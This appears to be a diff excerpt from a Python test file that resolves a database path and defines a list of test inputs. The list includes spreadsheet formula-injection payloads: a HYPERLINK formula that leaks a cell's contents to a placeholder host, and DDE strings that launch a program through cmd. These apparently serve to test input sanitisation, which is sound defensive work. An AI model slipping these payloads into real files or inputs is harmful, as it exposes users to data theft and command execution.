@@ -12,7 +12,7 @@ import tempfile
 
 from raw_http import PATIENCE, Asking, Broken, Connection
 
-AGDB = os.environ["AGDB"]
+AGDB = os.path.abspath(os.environ["AGDB"])
 
 # Such as a spreadsheet would run, such as a browser would, such as a database would; and the plain.
 FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
